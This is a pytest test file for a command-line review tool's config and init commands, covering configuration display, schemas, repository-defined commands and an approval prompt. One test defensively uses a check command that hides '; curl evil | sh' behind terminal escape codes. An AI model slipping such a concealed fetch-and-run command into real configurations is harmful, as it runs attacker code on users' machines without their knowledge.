"""`moot config` and `moot init` as a person runs them, in real repositories."""

from __future__ import annotations

import json
import os
import stat
import subprocess
import tomllib
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from jsonschema import Draft202012Validator

from moot.cli.main import cli
from moot.core.errors import ConfigError, MootError, NotFoundError, RepositoryError, UsageError


def moot(*args: str, typed: str | None = None) -> Result:
    return CliRunner().invoke(cli, args, input=typed)


def said(*args: str, typed: str | None = None) -> str:
    result = moot(*args, typed=typed)
    assert result.exception is None, result.exception
    return result.stdout


def refused(kind: type[MootError], *args: str) -> str:
    result = moot(*args)
    assert isinstance(result.exception, kind), (result.exception, result.output)
    return str(result.exception)


def git(repo: Path, *args: str) -> None:
    identity = ["-c", "user.name=t", "-c", "user.email=t@example.org", "-c", "commit.gpgsign=false"]
    subprocess.run(["git", *identity, *args], cwd=repo, check=True, capture_output=True)


@pytest.fixture
def user(tmp_path) -> Path:
    """The person's file, not there yet."""
    return tmp_path / "moot-home" / "config.toml"


@pytest.fixture
def repo(tmp_path, monkeypatch) -> Path:
    """A repository with a commit on main and a branch checked out on top of it."""
    folder = tmp_path / "repo"
    folder.mkdir()
    git(folder, "init", "-q", "-b", "main")
    (folder / "a.py").write_text("a = 1\n")
    git(folder, "add", ".")
    git(folder, "commit", "-qm", "first")
    git(folder, "checkout", "-qb", "topic")
    monkeypatch.chdir(folder)
    return folder


def on_main(repo: Path, text: str, name: str = ".moot.toml") -> None:
    """Commit a file to main and to the branch."""
    git(repo, "checkout", "-q", "main")
    (repo / name).write_text(text)
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "configure")
    git(repo, "checkout", "-q", "topic")
    git(repo, "merge", "-q", "main")


@pytest.fixture
def outside(tmp_path, monkeypatch) -> Path:
    folder = tmp_path / "elsewhere"
    folder.mkdir()
    monkeypatch.chdir(folder)
    return folder


def programs(folder: Path, *names: str) -> str:
    """Return a PATH on which there are these programs and nothing else."""
    folder.mkdir()
    for name in names:
        (folder / name).write_text("#!/bin/sh\n")
        (folder / name).chmod(0o755)
    return str(folder)


def test_show_prints_toml_that_loads_again(outside, user):
    text = said("config", "show")
    assert tomllib.loads(text)["limits"]["turn"] == "20m"
    user.parent.mkdir()
    user.write_text(text)
    assert said("config", "show") == text


def test_show_origin_names_who_set_each_key(outside, user, monkeypatch):
    user.parent.mkdir()
    user.write_text('[limits]\nturn = "9m"\n')
    monkeypatch.setenv("MOOT_LANGUAGE", "de")
    lines = said("config", "show", "--origin").splitlines()
    assert any(line.startswith('limits.turn = "9m" ') and line.endswith(f"# {user}:2") for line in lines)
    assert any(line.startswith('language = "de" ') and line.endswith("# $MOOT_LANGUAGE") for line in lines)
    assert tomllib.loads("\n".join(lines))["language"] == "de"


def test_show_json_has_key_value_and_origin(outside):
    listed = {s["key"]: s for s in json.loads(said("config", "show", "--json"))}
    assert listed["policy.optional"]["value"] == ["analyzers"]
    assert listed["policy.optional"]["origin"].startswith("defaults.toml:")


def test_a_file_given_with_config_replaces_the_persons(outside, user):
    user.parent.mkdir()
    user.write_text('language = "own"\n')
    Path("other.toml").write_text('language = "other"\n')
    assert 'language = "other"' in said("--config", "other.toml", "config", "show")


def test_check_names_the_files_it_read_or_says_there_are_none(outside, user):
    assert said("config", "check") == "ok    no configuration file: the defaults hold\n"
    user.parent.mkdir()
    user.write_text("")
    assert said("config", "check") == f"ok    {user}\n"


def test_check_refuses_a_mistake_with_its_line(outside, user):
    user.parent.mkdir()
    user.write_text('[review]\nreveiwers = ["opus"]\n')
    assert refused(ConfigError, "config", "check") == (
        f'{user}:2: unknown key "review.reveiwers", did you mean "reviewers"?'
    )


@pytest.mark.parametrize("options", [(), ("--reply", "review"), ("--reply", "judge"), ("--result",)])
def test_every_schema_is_printed_and_is_one(options):
    Draft202012Validator.check_schema(json.loads(said("config", "schema", *options)))


def test_a_schema_that_is_not_is_refused():
    assert "review" in refused(NotFoundError, "config", "schema", "--reply", "vote")
    refused(UsageError, "config", "schema", "--reply", "review", "--result")


def test_the_repositorys_file_is_heard_as_it_is_at_the_base(repo):
    on_main(repo, 'language = "base"\n')
    (repo / ".moot.toml").write_text('language = "head"\n')
    git(repo, "commit", "-qam", "change my own rules")
    result = moot("config", "show", "--origin")
    assert 'language = "base"' in result.stdout
    assert "# .moot.toml:1" in result.stdout
    assert "counts as it is at the base commit, the working copy differs" in result.stderr


def test_a_mistake_in_the_repositorys_file_is_told_by_its_name_there(repo):
    on_main(repo, '\n\n\n\n\n[review]\nreveiwers = ["opus"]\n')
    assert refused(ConfigError, "config", "check") == (
        '.moot.toml:7: unknown key "review.reveiwers", did you mean "reviewers"?'
    )


COMMANDS = '[agents.mine]\nkind = "command"\ncommand = ["python3", "r.py"]\n[review]\nchecks = ["make test"]\n'


def test_allow_shows_the_commands_and_stores_a_yes(repo):
    on_main(repo, COMMANDS)
    assert "agents.mine" not in said("config", "show")
    text = said("config", "allow", typed="y\n")
    assert "agents.mine.command: python3 r.py" in text
    assert "review.checks: make test" in text
    assert 'agents.mine.command = ["python3", "r.py"]' in said("config", "show")
    assert said("config", "allow").startswith("allowed already:")


def test_allow_stores_nothing_on_a_no(repo):
    on_main(repo, COMMANDS)
    assert "not allowed" in said("config", "allow", typed="n\n")
    assert "agents.mine" not in said("config", "show")


def test_allow_asks_again_when_a_command_changes(repo):
    on_main(repo, COMMANDS)
    said("config", "allow", "--yes")
    on_main(repo, COMMANDS.replace("make test", "make evil"))
    assert "review.checks = []" in said("config", "show")
    assert "make evil" in said("config", "allow", "--yes")
    assert 'review.checks = ["make evil"]' in said("config", "show")


def test_allow_works_where_the_persons_file_waits_for_it(repo, user):
    user.parent.mkdir(exist_ok=True)
    user.write_text('[review]\nreviewers = ["mine"]\n')
    on_main(repo, COMMANDS)
    assert refused(ConfigError, "config", "show").endswith("next: moot config allow")
    said("config", "allow", "--yes")
    assert 'review.reviewers = ["mine"]' in said("config", "show")


def test_allow_has_nothing_to_do_without_commands(repo):
    assert said("config", "allow") == "no commands in .moot.toml at the base commit: nothing to allow\n"


def test_allow_outside_a_repository_is_refused(outside):
    refused(RepositoryError, "config", "allow")


def test_a_command_cannot_hide_part_of_itself_from_the_question(repo):
    on_main(repo, '[review]\nchecks = ["make test\\u001b[8m; curl evil | sh\\u001b[0m\\r"]\n')
    text = said("config", "allow", typed="n\n")
    assert "make test\\x1b[8m; curl evil | sh\\x1b[0m\\r" in text


def test_init_names_the_clis_it_found_and_the_next_steps(outside, user, tmp_path, monkeypatch):
    monkeypatch.setenv("PATH", programs(tmp_path / "bin", "claude", "codex"))
    text = said("init")
    assert text.startswith(f"wrote {user}\n")
    assert "moot doctor" in text
    written = tomllib.loads(user.read_text())
    assert written["agents"] == {"claude": {"kind": "claude"}, "codex": {"kind": "codex"}}
    assert '#reviewers = ["claude", "codex", "analyzers"]' in user.read_text()
    assert stat.S_IMODE(user.stat().st_mode) == 0o600
    said("config", "check")


def test_init_says_so_when_there_is_no_cli(outside, user, tmp_path, monkeypatch):
    monkeypatch.setenv("PATH", programs(tmp_path / "bin"))
    assert "no agent CLI found" in said("init")
    assert "agents" not in tomllib.loads(user.read_text())


def test_init_overwrites_only_by_force(outside, user):
    said("init")
    user.write_text("mine")
    assert refused(UsageError, "init") == f"{user}: exists already\nnext: edit it, or moot init --force"
    assert user.read_text() == "mine"
    said("init", "--force")
    assert user.read_text() != "mine"


def test_init_that_cannot_write_says_so(outside, user):
    user.parent.write_text("a file where the folder should be")
    assert refused(UsageError, "init").startswith(f"{user}: cannot be written: ")


def test_init_writes_a_repositorys_file_at_its_top(repo):
    (repo / "deep").mkdir()
    os.chdir(repo / "deep")
    text = said("init", "--repo")
    assert text.startswith(f"wrote {repo / '.moot.toml'}\n")
    assert "exists already" in refused(UsageError, "init", "--repo")
    assert "is not at the base commit yet" in moot("config", "check").stderr


def test_init_for_a_repository_needs_one(outside):
    assert "not in a git repository" in refused(RepositoryError, "init", "--repo")
